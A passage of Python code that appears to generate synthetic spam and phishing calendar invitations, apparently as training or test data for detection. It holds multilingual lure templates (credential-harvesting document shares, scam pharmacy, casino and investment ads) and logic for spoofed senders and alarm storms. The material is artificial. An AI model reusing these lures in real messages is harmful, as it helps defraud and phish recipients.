    maybe_list(c)
    c.desc = 'task / job scam steering to a messenger (%s)' % c.lang


# ====================================================================== 12 document-share lures from compromised partner mailboxes

T_DOC = {
    'en': [
        dict(s='{org} - proposal for review', d='Hi {rfirst},\nPlease review the attached proposal before our call.\nDocument: {doc}\nView here: {url}\nKind regards,\n{sname}\n{org}'),
        dict(s='RFQ {ref} - secure document', d='Good morning,\nYou have received a secure document from {org}. Use the link below to access the file (valid 48 hours).\n{url}\n{sname}'),
        dict(s='{sname} shared "{doc}"', d='{sname} ({semail}) has invited you to view a file.\n{doc}\nOpen: {url}\nThis link will work for anyone.'),
        dict(s='Payment advice - {org}', d='Please find our payment advice for the outstanding invoices. The PDF is protected; sign in with your e-mail credentials to open it.\n{url}\n{sname}\n{org}'),
        dict(s='Updated contract - please sign', d='Hello, the updated contract is ready. Kindly review and sign via the link below.\n{url}\nThanks,\n{sname}'),
    ],
    'de': dict(s='Angebot {ref} zur Durchsicht', d='Hallo {rfirst},\nanbei wie besprochen unser Angebot. Das Dokument ist aus Datenschutzgründen über unsere Cloud freigegeben:\n{url}\nViele Grüße\n{sname}\n{org}'),
    'pl': dict(s='Faktura {ref} – dokument do pobrania', d='Dzień dobry,\nprzesyłam fakturę za ostatnie zamówienie. Dokument jest dostępny w bezpiecznym udostępnieniu:\n{url}\nPozdrawiam,\n{sname}\n{org}'),
    'tr': dict(s='Teklif dosyası – {org}', d='Merhaba {rfirst},\nGörüşmemizden önce teklif dosyamızı incelemenizi rica ederim. Dosyaya aşağıdaki bağlantıdan ulaşabilirsiniz:\n{url}\nSaygılarımla,\n{sname}'),
    'el': dict(s='Κοινή χρήση εγγράφου: {doc}', d='Καλησπέρα σας,\nσας έχει κοινοποιηθεί ένα έγγραφο από την εταιρεία {org}. Για να το δείτε, πατήστε τον παρακάτω σύνδεσμο:\n{url}\nΜε εκτίμηση,\n{sname}'),
    'he': dict(s='מסמך לחתימה – {org}', d='שלום {rfirst},\nמצורף המסמך המעודכן לחתימה. ניתן לצפות בו בקישור המאובטח:\n{url}\nבברכה,\n{sname}'),
    'th': dict(s='เอกสารใบเสนอราคา {ref}', d='เรียนคุณ{rfirst}\nทางบริษัท {org} ขอส่งใบเสนอราคาเพื่อพิจารณา สามารถเปิดดูเอกสารได้ที่ลิงก์ด้านล่าง\n{url}\nขอแสดงความนับถือ\n{sname}'),
}


def docshare(c):
    rng = c.rng
    set_arrival(c, 2018, 2026)
    o = other_org(c, c.lang)
    sp = person(rng, c.lang)
    identity(c, 'compromised', sp, org=o, name=sp['name'])
    tenant = o[1].split('.')[0].replace('-', '')
    r = rng.random()
    if r < 0.35:
        url = 'https://%s-my.sharepoint.com/:b:/g/personal/%s_%s/E%s?e=%s' % (tenant, sp['lfirst'], o[1].replace('.', '_').replace('-', '_'), rid(rng, 45, ALNUM + '-_'), rid(rng, 6, ALNUM))
    elif r < 0.75:
        url = abused_host(rng, rng.choice(['doc', 'file', 'share', 'secure']))
    else:
        url = 'https://%s/%s/' % (fresh_domain(rng, rng.choice(['docs', 'share', 'file'])), rid(rng, 8, LOWALNUM))
    tzname = c.sender['tz']
    st, en = ev_time(c, tzname, days=(1, 5), hour=(9, 16), dur=rng.choice([30, 45, 60]))
    sl = base_slots(c)
    sl.update(org=o[0], sname=sp['name'], semail=c.sender['email'], doc=rng.choice(['Proposal_%s.pdf' % o[1].split('.')[0], 'Q%d Statement.pdf' % rng.randint(1, 4),
                                                                                  'Purchase Order %d.pdf' % rng.randint(4000, 9999), 'Angebot.pdf', 'Contract_v3.docx']),
              ref=rid(rng, 6, '0123456789'))
    t = fill(pick(c, T_DOC), sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, 0) + ([att(people.person(rng, c.lang)['lfirst'] + '@' + c.rcpt['domain'])] if rng.random() < 0.3 else []))
    spam_spec(c, ev)
    finalize(c, ev, url, t, allowed=['desc', 'attach', 'location'], attach_name=sl['doc'])
    if c.client == 'outlook' and rng.random() < 0.4:
        c.spec['teams'] = True
    c.desc = 'document-share lure from compromised partner mailbox (%s)' % c.lang


# ====================================================================== 13 nagging payloads (endless recurrence, many alarms, far-future)

T_NAG = {
    'en': [
        dict(s='Your iPhone may be infected! Tap to clean', d='Virus detected on your device. Install the cleaner now:\n{url}'),
        dict(s='Online Pharmacy -80% - No prescription needed', d='Viagra, Cialis, Xanax, Tramadol. Discreet worldwide delivery.\n{url}'),
        dict(s='Casino bonus 500% + 200 free spins', d='Your bonus is waiting. Claim now:\n{url}'),
        dict(s='Unsubscribe from these notifications', d='To stop receiving these calendar events, tap here:\n{url}'),
    ],
    'zh': dict(s='【澳門官方娛樂城】註冊即送888元', d='官方直營 信譽保證 提款秒到帳\n點擊註冊：{url}', cs='big5'),
    'ja': dict(s='【当選】iPhone 16 Pro プレゼント', d='おめでとうございます！抽選の結果、あなたが当選しました。24時間以内に受け取り手続きをしてください。\n{url}'),
    'ko': dict(s='(광고) 무직자 대출 즉시 승인', d='신용등급 무관 당일 대출\n최대 3000만원 즉시 입금\n상담: {url}'),
    'ru': dict(s='Ваш выигрыш 150 000 ₽ ожидает получения', d='Поздравляем! Вы выиграли в еженедельном розыгрыше. Получите выплату:\n{url}'),
    'th': dict(s='สล็อตเว็บตรง ฝากถอนไม่มีขั้นต่ำ', d='สมัครวันนี้รับโบนัส 100%\n{url}\nแอดไลน์ {line}'),
}


def nagging(c):
    rng = c.rng
    cl = inner(c)
    spam_sender(c, display=rng.choice([None, '', 'Notification', 'Reminder']))
    url = spam_url(c, rng.choice(['clean', 'bonus', 'win', 'rx']))
    tzname = tzn(c)
    mode = rng.choice(['endless', 'future', 'past', 'endless'])
    st, en = ev_time(c, tzname, days=(0, 1), hour=(0, 23), dur=rng.choice([15, 30, 60]), weekday_only=False, same_day_ok=True)
    if mode == 'future':
        yr = rng.choice([2099, 2049, 2100, 2037, 2090])
        st = st.replace(year=yr)
        en = en.replace(year=yr)
    elif mode == 'past':
        st = st - timedelta(days=rng.randint(200, 900))
        en = st + timedelta(minutes=30)
    sl = base_slots(c)
    sl.update(line='@' + rid(rng, 7, LOWALNUM))
    t = fill(pick(c, T_NAG), sl)
    big5 = t.pop('cs', None)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, rng.choice([0, 0, 20, 60])))
    ev['rrule'] = rng.choice(['FREQ=DAILY', 'FREQ=HOURLY;INTERVAL=%d' % rng.choice([2, 4, 6]), 'FREQ=MINUTELY;INTERVAL=%d' % rng.choice([15, 30, 45]),
                              'FREQ=WEEKLY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=YEARLY;COUNT=%d' % rng.choice([500, 999])])
    n_al = rng.choice([6, 10, 15, 24, 40])
    al_desc = t['s'] + ' ' + url if rng.random() < 0.6 else t['s']
    ev['alarms'] = [dict(trigger=timedelta(minutes=-m), desc=al_desc) for m in sorted(rng.sample(range(0, 600), n_al))]
    if c.lang == 'ja' and cl == 'script':
        ev['comp'] = 'VTODO'
        ev['status'] = 'NEEDS-ACTION'
    spam_spec(c, ev)
    if big5:
        c.spec['charset'] = big5
        c.spec['body'] = t['d'].replace(URLTOK, url)
    if c.lang == 'ja' and cl == 'script':
        c.spec['charset'] = 'shift_jis'
        c.spec.pop('ics_charset', None)
    finalize(c, ev, url, t)
    c.desc = 'nagging calendar payload (%s recurrence, %d alarms) (%s)' % (mode, n_al, c.lang)


# ====================================================================== 14 mass invitations to hundreds of unrelated attendees

T_MASS = {
    'en': [
        dict(s='Keto Burn: lose 10 kg in 30 days', d='Doctors are stunned by this simple trick. Limited offer - 3 bottles for the price of 1.\n{url}'),
        dict(s='Exclusive invite: earn $5,000/week from home', d='Free masterclass tonight. Seats are limited!\n{url}'),
        dict(s='Congratulations - winners list published', d='Check whether your e-mail is on this month\'s winners list:\n{url}'),
        dict(s='VIP Casino Night - 300% welcome bonus', d='Your VIP invitation is ready. 300% on your first deposit + 100 free spins.\n{url}'),
        dict(s='Web design & SEO services {year}', d='We can bring your website to the first page of Google. Reply for a free audit.\n{url}'),
    ],
    'ar': dict(s='فرصة استثمارية حصرية – أرباح يومية مضمونة', d='انضم الآن إلى أكبر منصة تداول في الشرق الأوسط واحصل على أرباح يومية تصل إلى {pct}٪.\nسجل الآن: {url}'),
    'hi': dict(s='सिर्फ़ ₹999 में iPhone 15 – ऑफ़र आज ख़त्म', d='मेगा सेल! पहले 100 ग्राहकों के लिए iPhone 15 सिर्फ़ ₹999 में।\nअभी ऑर्डर करें: {url}'),
    'tr': dict(s='Deneme bonusu 500 TL – hemen üye ol', d='Yatırımsız deneme bonusu ve %100 hoş geldin bonusu sizi bekliyor!\nGüncel giriş adresi: {url}'),
    'pt': dict(s='Renda extra: ganhe até R$ 5.000 por mês', d='Aula gratuita ao vivo hoje às 20h. Descubra o método que já mudou a vida de milhares de brasileiros.\nInscreva-se: {url}'),
}


def mass(c):
    rng = c.rng
    cl = inner(c)
    if cl == 'zoom':
        throwaway(c)
    else:
        spam_sender(c, display=rng.choice([None, 'Events', 'VIP Club']))
    url = spam_url(c, rng.choice(['vip', 'promo', 'win', 'club']))
    tzname = tzn(c)
    st, en = ev_time(c, tzname, days=(0, 4), hour=(10, 21), dur=rng.choice([60, 90, 120]), weekday_only=False)
    sl = base_slots(c)
    sl.update(pct=rng.choice([15, 25, 40]))
    t = fill(pick(c, T_MASS), sl)
    n = rng.randint(150, 600)
    atts = rcpt_list(c, n, free_share=0.7)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=atts)
    kw = {}
    if cl == 'zoom':
        host = c.sender
        ev['organizer'] = org_of(host)
        c.sender = dict(host, email='no-reply@zoom.us', domain='zoom.us', kind='service')
        kw = dict(zoom_host=host['name'])
    if cl == 'outlook':
        kw['to'] = [(None, a['email']) for a in atts[:n]]
    spam_spec(c, ev, **kw)
    finalize(c, ev, url, t)
    maybe_list(c)
    c.desc = 'mass invitation to %d unrelated attendees (%s)' % (n, c.lang)


# ====================================================================== 15 unsolicited B2B outreach invitations

T_B2B = {
    'en': [
        dict(s='Attendee list - {expo} {year}', d="Hi {rfirst},\nWould you be interested in acquiring the {expo} {year} attendee list? We have {n} verified contacts with name, title, e-mail and phone number. Let me know and I'll share pricing and a sample.\nBest,\n{sname}\nData Specialist"),
        dict(s='15 min - {company} x {rorg}', d='Hi {rfirst},\nI took the liberty of putting 15 minutes on your calendar to show you how we generate 30+ qualified B2B leads per month for companies like {rorg}. If the time does not work, feel free to suggest another.\n{sname}\n{company}'),
        dict(s='Quick question about your website', d='Hello,\nI noticed some issues on your website that are costing you traffic. We offer SEO and web redesign at very affordable prices. Can we schedule a call? Reply with your number.\n{sname}'),
        dict(s='Dedicated developers from $18/hour', d='Hi {rfirst}, we are a software development company with 10+ years of experience. We offer dedicated developers from $18/hour. Accept this invite for a short intro call.\n{sname}\n{company}'),
        dict(s='Guest post collaboration', d="Hi, I'm interested in publishing a sponsored article on {rdomain}. What is your price for a do-follow link? I can pay via PayPal.\n{sname}"),
    ],
    'it': dict(s='Lista partecipanti {expo} {year}', d='Buongiorno {rfirst},\nsarebbe interessato alla lista dei partecipanti di {expo} {year}? Disponiamo di {n} contatti verificati. Mi faccia sapere e le invierò i prezzi.\nCordiali saluti,\n{sname}'),
    'pl': dict(s='Krótka rozmowa – pozyskiwanie klientów B2B', d='Dzień dobry,\npozwoliłem sobie zarezerwować 15 minut w Pana/Pani kalendarzu, aby pokazać, jak pozyskujemy dla firm takich jak {rorg} ponad 30 leadów miesięcznie. Jeśli termin nie pasuje, proszę zaproponować inny.\n{sname}'),
    'el': dict(s='Προσφορά κατασκευής ιστοσελίδας & SEO', d='Καλημέρα σας,\nπαρατηρήσαμε ότι η ιστοσελίδα σας δεν εμφανίζεται στην πρώτη σελίδα της Google. Προσφέρουμε ολοκληρωμένες υπηρεσίες SEO με έκπτωση 40% αυτόν τον μήνα. Μπορούμε να μιλήσουμε;\n{sname}'),
    'hi': dict(s='आपकी वेबसाइट के लिए SEO प्रस्ताव', d='नमस्ते,\nहमने देखा कि आपकी वेबसाइट गूगल के पहले पेज पर नहीं है। हम किफ़ायती दरों पर SEO और वेब डिज़ाइन सेवाएं देते हैं। क्या हम 15 मिनट बात कर सकते हैं?\n{sname}'),
}
EXPOS = ['HIMSS', 'CES', 'MWC', 'Arab Health', 'Medica', 'NRF Big Show', 'Hannover Messe', 'ISE', 'Black Hat', 'Gitex']


def b2b(c):
    rng = c.rng
    cl = inner(c)
    sp = person(rng, c.lang)
    comp = rng.choice(['LeadForge Data', 'Scalewise Digital', 'Pixelcraft Solutions', 'GrowthLane Media', 'Datanova Contacts', 'CodeHarbor Tech'])
    dom = fresh_domain(rng, comp.split()[0].lower())
    if cl == 'thunderbird':
        identity(c, 'vps', sp, domain=dom, lp=local_part(rng, sp, 'f.l'), name=sp['name'], spf_result=rng.choice(['pass', 'none']))
    elif cl in ('google', 'outlook') and rng.random() < 0.6:
        identity(c, 'lookalike', sp, domain=dom, lp=local_part(rng, sp, 'f.l'), name=sp['name'])
    elif cl == 'transactional':
        lookalike_id(c, dom, sp['name'], lp=sp['lfirst'], esp=rng.choice(['sendgrid', 'mailgun', 'ses']))
    else:
        spam_sender(c, display=sp['name'])
    tzname = rng.choice(['Asia/Kolkata', 'America/New_York', 'Europe/London', tzn(c)])
    st, en = ev_time(c, tzname, days=(1, 8), hour=(9, 17), dur=rng.choice([15, 30]))
    sl = base_slots(c)
    sl.update(expo=rng.choice(EXPOS), n='{:,}'.format(rng.randint(8000, 45000)), sname=sp['name'], company=comp,
              rorg=c.rcpt.get('org') or c.rcpt['domain'])
    t = fill(pick(c, T_B2B), sl)
    ev = event(c, t['s'], t['d'], st, en, tzname, attendees=rcpt_list(c, 0))
    spam_spec(c, ev)
    if cl == 'transactional':
        c.spec['brand'] = brand_tx(c, comp, c.sender['domain'], 'meeting.ics')
        c.spec['subject'] = t['s']
        c.spec['method'] = 'REQUEST'
    if cl == 'google' and rng.random() < 0.5:
        ev['google_meet'] = 'https://meet.google.com/%s-%s-%s' % (rid(rng, 3, 'abcdefghijklmnopqrstuvwxyz'), rid(rng, 4, 'abcdefghijklmnopqrstuvwxyz'), rid(rng, 3, 'abcdefghijklmnopqrstuvwxyz'))
    finalize(c, ev, None, t, placement='desc')
    maybe_list(c)
    c.desc = 'unsolicited B2B outreach invitation (%s)' % c.lang


# ====================================================================== plan

def _cat(name, fn, desc, pairs, years=(2016, 2026)):
    return dict(name=name, fn=fn, desc=desc, langs=[p[0] for p in pairs], clients=[p[1] for p in pairs], years=years)


CATS = [
    _cat('retail-sale-wave', retail, 'Counterfeit / outlet "sale" invitations of the kind that flooded iCloud calendars, and later waves on every service',
         [('en', 'apple.icloud'), ('zh', 'apple.icloud'), ('en', 'apple'), ('en', 'google'), ('ko', 'google'), ('de', 'outlook'),
          ('ja', 'yahoo'), ('en', 'transactional'), ('fr', 'transactional'), ('it', 'transactional'), ('en', 'mlist.script'), ('en', 'script')]),
    _cat('prize-survey-lure', prize, 'Gift-card, prize, loyalty-points and survey lures',
         [('en', 'google'), ('es', 'outlook'), ('en', 'outlook'), ('en', 'transactional'), ('pt', 'transactional'), ('pl', 'transactional'),
          ('en', 'transactional'), ('ar', 'apple'), ('en', 'yahoo'), ('tr', 'mlist.google'), ('en', 'script')]),
    _cat('crypto-investment', crypto, 'Crypto giveaways, fake balances, AI-trading and signal-group investment fraud',
         [('en', 'google'), ('ko', 'google'), ('en', 'outlook'), ('de', 'outlook'), ('en', 'zoom'), ('nl', 'zoom'),
          ('th', 'apple'), ('en', 'transactional'), ('ru', 'transactional'), ('tr', 'mlist.outlook'), ('en', 'thunderbird')]),
    _cat('dating-sextortion', dating, 'Dating lures and sextortion / Bitcoin blackmail',
         [('en', 'google'), ('es', 'google'), ('en', 'outlook'), ('fr', 'outlook'), ('en', 'yahoo'), ('en', 'apple.icloud'),
          ('pl', 'apple'), ('he', 'mlist.thunderbird'), ('it', 'script'), ('en', 'sogo')]),
    _cat('fee-scam', fee, 'Parcel redelivery, toll, tax-refund and traffic-fine payment scams',
         [('en', 'transactional'), ('en', 'transactional'), ('ja', 'transactional'), ('fr', 'transactional'), ('nl', 'transactional'),
          ('en', 'google'), ('es', 'google'), ('en', 'outlook'), ('el', 'outlook'), ('en', 'apple'), ('ar', 'script'), ('en', 'zimbra')]),
    _cat('credential-phish', cred, 'Credential phishing under Microsoft 365, DocuSign, PayPal, bank, Dropbox and government themes',
         [('en', 'outlook'), ('de', 'outlook'), ('en', 'outlook'), ('ko', 'outlook'), ('en', 'google'), ('pt', 'google'), ('en', 'google'),
          ('en', 'transactional'), ('it', 'transactional'), ('en', 'nextcloud'), ('nl', 'nextcloud'), ('zh', 'zimbra'), ('en', 'zimbra'), ('he', 'sogo')]),
    _cat('callback-scam', callback, 'Subscription-renewal, fake invoice and tech-support scams that only give a phone number',
         [('en', 'google'), ('fr', 'google'), ('en', 'outlook'), ('hi', 'outlook'), ('en', 'transactional'), ('en', 'transactional'),
          ('ja', 'transactional'), ('en', 'transactional'), ('en', 'apple'), ('he', 'yahoo'), ('en', 'thunderbird')], years=(2019, 2026)),
    _cat('fake-update-lure', update, 'Fake meeting-client updates and "paste this command" (ClickFix-style) lures',
         [('en', 'outlook'), ('ru', 'outlook'), ('en', 'outlook'), ('en', 'zoom'), ('pt', 'zoom'), ('ko', 'zoom'),
          ('en', 'google'), ('zh', 'google'), ('pl', 'script'), ('en', 'thunderbird')], years=(2021, 2026)),
    _cat('bec', bec, 'Business e-mail compromise: CEO fraud, gift cards, supplier bank-detail and payroll changes',
         [('en', 'outlook'), ('de', 'outlook'), ('en', 'outlook'), ('nl', 'outlook'), ('en', 'google'), ('es', 'google'), ('en', 'google'),
          ('en', 'apple'), ('ja', 'apple'), ('it', 'thunderbird'), ('en', 'yahoo'), ('fr', 'zimbra')]),
    _cat('advance-fee', advance, 'Advance-fee fraud: inheritance, compensation, donation, consignment',
         [('en', 'yahoo'), ('ar', 'yahoo'), ('en', 'outlook'), ('ru', 'outlook'), ('en', 'google'), ('zh', 'google'),
          ('en', 'mlist.yahoo'), ('el', 'sogo'), ('en', 'zimbra')]),
    _cat('task-job-scam', task, 'Task and job scams that move victims to WhatsApp, Telegram or LINE',
         [('en', 'google'), ('hi', 'google'), ('es', 'google'), ('en', 'outlook'), ('th', 'apple'), ('en', 'apple'),
          ('pt', 'zoom'), ('ru', 'mlist.google'), ('en', 'transactional'), ('ar', 'script')], years=(2020, 2026)),
    _cat('compromised-docshare', docshare, 'Document-share lures sent from compromised real partner mailboxes',
         [('en', 'outlook'), ('de', 'outlook'), ('en', 'outlook'), ('tr', 'outlook'), ('en', 'google'), ('pl', 'google'),
          ('en', 'nextcloud'), ('el', 'nextcloud'), ('he', 'zimbra'), ('en', 'sogo'), ('th', 'sogo')], years=(2018, 2026)),
    _cat('nagging-payload', nagging, 'Endless recurrence, alarm storms and far-future/past dates carrying ads',
         [('en', 'apple.icloud'), ('zh', 'apple'), ('en', 'google'), ('ko', 'google'), ('ja', 'script.phpmailer'), ('en', 'script'),
          ('ru', 'outlook'), ('en', 'thunderbird'), ('th', 'nextcloud')]),
    _cat('mass-invite', mass, 'Invitations addressed to hundreds of unrelated attendees',
         [('en', 'google'), ('ar', 'google'), ('en', 'mlist.google'), ('pt', 'mlist.google'), ('en', 'mlist.script'),
          ('hi', 'outlook'), ('en', 'apple.icloud'), ('tr', 'zoom'), ('en', 'thunderbird')]),
    _cat('b2b-cold-outreach', b2b, 'Unsolicited bulk B2B invitations: attendee-list sellers, lead-gen, SEO, outsourcing',
         [('en', 'google'), ('it', 'google'), ('en', 'outlook'), ('pl', 'outlook'), ('en', 'outlook'), ('en', 'transactional'),
          ('hi', 'transactional'), ('en', 'mlist.outlook'), ('el', 'thunderbird')]),
]
